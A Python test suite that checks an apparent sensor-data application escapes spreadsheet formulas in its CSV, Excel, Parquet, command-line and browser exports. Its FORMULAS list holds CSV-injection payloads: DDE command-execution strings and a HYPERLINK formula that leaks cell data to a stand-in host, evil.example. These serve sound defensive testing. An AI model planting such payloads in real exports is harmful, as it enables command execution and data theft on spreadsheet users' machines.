"""Exports hold no formulas, whatever people called things; texts stay texts, numbers stay numbers."""

import csv
import io
import re
import time
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pyarrow.parquet
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import select

from app.api.routes import tables
from db.beliefs import store
from db.core.database import Database, get
from db.sensors import Sensor
from db.sources import Source
from db.sources import named as named_source
from engine.importing.cells import texts
from engine.importing.layout import Layout
from engine.importing.reading import read_file
from engine.series.iso_time import to_us
from tests.attack.test_secrets import flexscope
from tests.conftest import PATIENCE
from tests.engine.importing.sample_files import target
from tests.http.serving import Api

ROOT = Path(__file__).parents[2]
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"more")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    '"=1+1',
    "'=1+1",
    "\u00a0\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "meter;=1+1",
    "meter\t=1+1",
    "meter\r\n=1+1",
    "#N/A",
    "#REF!",
]
HARMLESS = ["Load [kW]", "PV, west", "a=b", "Büro +1", "12", "meter-7", "x@y", "a; b", "O'Neil", ""]
DANGEROUS = re.compile(r"^[\s\"'\u00a0\u200b\ufeff]*[=+\-@＝＋－＠]|^[\t\r\n]")
START = datetime(2026, 1, 5, tzinfo=UTC)


def is_formula(cell: str) -> bool:
    """Return whether a spreadsheet would compute a cell of CSV: a number is one, a text with an apostrophe is none."""
    if re.fullmatch(r"[+-]?\d+(\.\d+)?(e[+-]?\d+)?", cell):
        return False
    return not cell.startswith("'") and DANGEROUS.search(cell) is not None


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_text_is_a_formula_however_a_line_is_split(text: str, delimiter: str) -> None:
    out = io.StringIO()
    csv.writer(out).writerow([1, texts.plain(text), -1.5])
    # A spreadsheet set to another delimiter splits the line there, also inside what we quoted.
    for line in out.getvalue().splitlines():
        cells = next(csv.reader([line], delimiter=delimiter), [])
        assert not [cell for cell in cells if is_formula(cell)], (line, cells)


@given(st.text(max_size=30) | st.text(alphabet="\t\r\n;=+-@'\" a1", max_size=12))
def test_a_text_comes_back_as_it_was(text: str) -> None:
    made = texts.plain(text)
    assert texts.original(made) == text
    assert not any(is_formula(cell) for cell in re.split(r"[;\t\r\n]", made))


@pytest.mark.parametrize("text", HARMLESS)
def test_usual_texts_stay_as_they_are(text: str) -> None:
    assert texts.plain(text) == text


def test_a_long_name_takes_no_time() -> None:
    began = time.process_time()
    for sign in "\t;' \"=":
        texts.original(texts.plain(sign * 100_000))
    assert time.process_time() - began < 2


@pytest.fixture(scope="module")
def named(http_database: Database, api: Api, ids: dict[str, int]) -> dict[str, int]:
    """Sensors with every odd name, each with a value of a source of the same name."""
    with http_database.writing() as session:
        source = Source(name="=1+1", type="script", model="@SUM(1)", version="1")
        session.add(source)
        found = {}
        for text in FORMULAS + HARMLESS:
            sensor = Sensor(name=text, asset_id=ids["battery"], unit="kW", resolution=timedelta(minutes=15))
            session.add(sensor)
            session.flush()
            found[text] = sensor.id
    for sensor_id in found.values():
        body = {"values": [-1.5, 2.5], "start": START.isoformat(), "duration": "PT30M", "unit": "kW"}
        assert api.post(f"/sensors/{sensor_id}/data", json=body).status_code == 200
    return found


def exported(api: Api, sensors: list[int], kind: str) -> bytes:
    asked = {"sensors": ",".join(map(str, sensors)), "start": START.isoformat(), "duration": "PT1H", "format": kind}
    answer = api.get("/sensors/data/export", params=asked)
    assert answer.status_code == 200, answer.text
    assert re.fullmatch(r'attachment; filename="[\w.-]+"', answer.headers["Content-Disposition"])
    return answer.content


def names_of(database: Database, named: dict[str, int]) -> list[str]:
    with database.reading() as session:
        return [get(session, Sensor, key).name for key in named.values() for _ in range(2)]


def test_csv_holds_no_formula_and_its_numbers_are_numbers(
    api: Api, http_database: Database, named: dict[str, int]
) -> None:
    content = exported(api, list(named.values()), "csv").decode()
    rows = list(csv.DictReader(io.StringIO(content, newline="")))
    assert not [cell for row in rows for cell in row.values() if is_formula(cell)]
    assert [texts.original(row["sensor"]) for row in rows] == [
        text.replace("\r\n", "\n").replace("\r", "\n") for text in names_of(http_database, named)
    ]
    assert {row["event_value"] for row in rows} == {"-1.5", "2.5"}


def test_excel_holds_texts_and_numbers_only(api: Api, http_database: Database, named: dict[str, int]) -> None:
    sheet = openpyxl.load_workbook(io.BytesIO(exported(api, list(named.values()), "xlsx"))).active
    heads, *rows = sheet.iter_rows()
    columns = [cell.value for cell in heads]
    for row in rows:
        kinds = {name: cell.data_type for name, cell in zip(columns, row, strict=True)}
        assert kinds["event_value"] == "n" and kinds["sensor_id"] == "n"
        assert not {"f", "e"} & set(kinds.values()), kinds  # neither a formula nor an error
        risky = row[columns.index("sensor")]
        assert risky.quotePrefix or not texts.is_risky(str(risky.value or "")), risky.value
    shown = [str(row[columns.index("sensor")].value or "") for row in rows]
    assert [text.replace("\r\n", "\n").replace("\r", "\n") for text in shown] == [
        text.replace("\r\n", "\n").replace("\r", "\n") for text in names_of(http_database, named)
    ]


def test_parquet_holds_names_as_they_are(api: Api, http_database: Database, named: dict[str, int]) -> None:
    table = pyarrow.parquet.read_table(io.BytesIO(exported(api, list(named.values()), "parquet")))
    assert table["sensor"].to_pylist() == names_of(http_database, named)


def test_a_name_that_no_sheet_can_hold_is_exported(api: Api, http_database: Database, ids: dict[str, int]) -> None:
    with http_database.writing() as session:
        sensor = Sensor(name="bell\x07 \x1b[31m", asset_id=ids["battery"], unit="kW", resolution=timedelta(minutes=15))
        session.add(sensor)
        session.flush()
    body = {"values": [1.0], "start": START.isoformat(), "duration": "PT15M", "unit": "kW"}
    assert api.post(f"/sensors/{sensor.id}/data", json=body).status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(exported(api, [sensor.id], "xlsx"))).active
    assert sheet.cell(2, 2).value == "bell\ufffd \ufffd[31m"


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
@pytest.mark.parametrize("text", ["=cmd|' /C calc'!A0", "-2+3", "Load [kW]"])
def test_our_own_export_is_read_back_by_its_names(api: Api, named: dict[str, int], kind: str, text: str) -> None:
    if text not in named:
        text = "-2+3+cmd|' /C calc'!A0"
    content = exported(api, [named["Load [kW]"], named[text]], kind)
    layout = Layout(time_column="event_start", value_column="event_value", filter_column="sensor", filter_value=text)
    assert read_file(content, layout, target("kW")).readings.values[:2].tolist() == [-1.5, 2.5]


def test_every_endpoint_that_gives_tables_gives_no_formula(api: Api, named: dict[str, int]) -> None:
    asked = {"sensors": ",".join(str(key) for key in named.values()), "start": START.isoformat(), "duration": "PT1H"}
    tried = 0
    for prefix, route in tables():
        if route.method != "GET" or not route.documented:
            continue
        path = re.sub(r"\{id\}", str(named[FORMULAS[0]]), route.path)
        for query in ({}, {"format": "csv"}, {"resolution": "PT15M"}):
            where = f"/{prefix}{path}"  # two slashes: from the root
            answer = api.get(where, params=asked | query, headers={"Accept": "text/csv"})
            if answer.headers.get("Content-Type", "").startswith("text/csv"):
                tried += 1
                rows = csv.reader(io.StringIO(answer.text, newline=""))
                assert not [cell for row in rows for cell in row if is_formula(cell)], route.path
    assert tried >= 2


def test_tables_are_written_in_known_places_only() -> None:
    # Whoever writes tables anew must ask engine/importing/cells/texts.py, or the same in row_table.js.
    writes = re.compile(r"to_csv\(|to_excel\(|openpyxl|csv\.writer|text/csv|Tabulator|FileDownload|\.xlsx\b")
    found = {
        str(file.relative_to(ROOT))
        for folder in ("app", "components", "db", "assets-static")
        for file in (ROOT / folder).rglob("*")
        if file.suffix in (".py", ".js", ".html") and writes.search(file.read_text("utf-8", "replace"))
    }
    assert found == {
        "app/assemble/files/export.py",  # and names their media
        "app/assemble/files/step_table.py",  # names of devices and results, by csv_text
        "app/cli/commands/computing/report_files.py",  # times and numbers; the words above them begin with our own
        "app/api/v3/data/bulk.py",  # ids and numbers only
        "app/api/http/openapi.py",  # names media
        "app/pages/sensor/upload.py",  # takes
        "app/cli/commands/beliefs.py",  # by export.py
        "app/cli/commands/computing/reports.py",  # times and numbers only
        "components/tables/row_table.js",
    }


def test_the_terminal_writes_no_formula_either(tmp_path: Path) -> None:
    instance, file = tmp_path / "instance", tmp_path / "values.csv"
    assert flexscope(instance, "add", "toy-account").returncode == 0
    opened = Database(f"sqlite:///{instance / 'flexscope.db'}")
    with opened.writing() as session:
        sensor = session.scalars(select(Sensor)).first()
        assert sensor is not None
        sensor.name, source = "=1+1", named_source(session, "@SUM(1)")
        events = np.array([to_us(START)])
        store.write(session, sensor, source, events=events, values=np.array([-1.5]), known_at=START)
    opened.close()
    words = ("show", "beliefs", "--sensor", str(sensor.id), "--start", "2026-01-01", "--duration", "P30D")
    done = flexscope(instance, *words, "--to-file", str(file))
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(file.read_text(), newline="")))
    assert [(row["sensor"], row["source"], row["event_value"]) for row in rows] == [("'=1+1", "'@SUM(1)", "-1.5")]


@pytest.mark.browser
def test_a_table_of_a_page_is_saved_without_formulas(browser: Any) -> None:
    source = (ROOT / "components" / "tables" / "row_table.js").read_text()
    page = browser.new_page()
    page.set_default_timeout(PATIENCE)
    page.goto("about:blank")
    quoted = page.evaluate(
        """async ([source, texts]) => {
          const made = await import(URL.createObjectURL(new Blob([source], {type: "text/javascript"})))
          return texts.map(made.quoted)
        }""",
        [source, [*FORMULAS, *HARMLESS, "-5", "+3.5", "-", "1,234"]],
    )
    page.close()
    cells = [next(csv.reader(io.StringIO(cell, newline="")), [""])[0] for cell in quoted]
    many = len(FORMULAS) + len(HARMLESS)
    assert cells[:many] == [texts.plain(text) for text in FORMULAS + HARMLESS]
    assert cells[many:] == ["-5", "+3.5", "-", "1,234"]
